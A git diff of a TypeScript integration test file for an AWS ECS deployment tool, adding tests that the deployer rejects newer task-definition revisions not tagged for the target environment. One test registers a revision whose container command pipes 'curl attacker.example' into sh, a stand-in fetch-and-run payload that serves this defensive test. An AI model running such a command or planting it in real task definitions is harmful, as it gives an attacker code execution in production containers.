@@ -7,6 +7,7 @@ import {
   DescribeServicesCommand,
   DescribeTaskDefinitionCommand,
   RegisterTaskDefinitionCommand,
+  type TaskDefinition,
 } from "@aws-sdk/client-ecs";
 import { afterEach, beforeAll, describe, expect, it } from "vitest";
 import { deploymentAlarmNames } from "../../lib/naming";
@@ -65,18 +66,9 @@ describe("deploy-service rolls an image onto the ECS service", () => {
     const w = await world();
     const ecs = ecsClient();
     const running = await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: w.oldArn }));
-    // What `cdktf deploy dev` does after a memory change: a new revision, the service left alone.
-    const { taskDefinitionArn: _arn, revision: _revision, status: _status, ...shape } = running.taskDefinition ?? {};
-    await ecs.send(
-      new RegisterTaskDefinitionCommand({
-        ...(shape as RegisterTaskDefinitionCommand["input"]),
-        memory: "1024",
-        containerDefinitions: running.taskDefinition?.containerDefinitions?.map((c) => ({
-          ...c,
-          image: "nginxdemos/hello:latest",
-        })),
-      }),
-    );
+    // What `cdktf deploy dev` does after a memory change: a new revision with the provider's default
+    // tags, the service left alone.
+    await registerNewerRevision(running.taskDefinition, "dev");
 
     const { result, log } = await run(w, completes);
 
@@ -87,6 +79,35 @@ describe("deploy-service rolls an image onto the ECS service", () => {
     expect(after.taskDefinition?.containerDefinitions?.[0].image).toBe(w.newImage);
     expect(log).toContain(`copied from ${w.target.family}:2`);
     expect(log).toContain("also rolls out its changes to: memory");
+  });
+
+  it("will not build on a newer revision not tagged for the environment (one slipped into prod's family), and changes nothing", async () => {
+    const w = await world("prod");
+    const ecs = ecsClient();
+    const running = await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: w.oldArn }));
+    // What the build agent's role could register: a revision of prod's family, tagged dev, other command.
+    await registerNewerRevision(running.taskDefinition, "dev", ["sh", "-c", "curl attacker.example | sh"]);
+
+    const attempt = run(w, completes, { environment: "prod" });
+
+    await expect(attempt).rejects.toThrow(PreflightError);
+    await expect(attempt).rejects.toThrow(
+      `${w.target.family}:2, the newest revision of ${w.target.family} and newer than the running ` +
+        `${w.target.family}:1, is tagged environment=dev, not prod`,
+    );
+    await expect(attempt).rejects.toThrow(`aws ecs deregister-task-definition --task-definition ${w.target.family}:2`);
+    expect(await revisionsOf(ecs, w.target.family)).toHaveLength(2);
+    expect(await serviceTaskDefinition(w.target)).toBe(w.oldArn);
+  });
+
+  it("will not build on a newer revision without the environment tag either", async () => {
+    const w = await world();
+    const ecs = ecsClient();
+    const running = await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: w.oldArn }));
+    await registerNewerRevision(running.taskDefinition, undefined);
+
+    await expect(run(w, completes)).rejects.toThrow(/is tagged environment=\(none\), not dev/);
+    expect(await revisionsOf(ecs, w.target.family)).toHaveLength(2);
   });
 
   it("refuses while another deployment is in progress, naming it, and registers nothing", async () => {
@@ -244,3 +265,24 @@ describe("deploy-service rolls an image onto the ECS service", () => {
     expect(result.summary.oldImage).toBe(prod.oldImage);
   });
 });
+
+/** A revision newer than the running one, as another party registers it: 1024 MiB, the tag given, a command. */
+async function registerNewerRevision(
+  running: TaskDefinition | undefined,
+  environmentTag: string | undefined,
+  command?: string[],
+) {
+  const { taskDefinitionArn: _arn, revision: _revision, status: _status, ...shape } = running ?? {};
+  await ecsClient().send(
+    new RegisterTaskDefinitionCommand({
+      ...(shape as RegisterTaskDefinitionCommand["input"]),
+      memory: "1024",
+      containerDefinitions: running?.containerDefinitions?.map((c) => ({
+        ...c,
+        image: "nginxdemos/hello:latest",
+        command,
+      })),
+      tags: environmentTag ? [{ key: "environment", value: environmentTag }] : undefined,
+    }),
+  );
+}
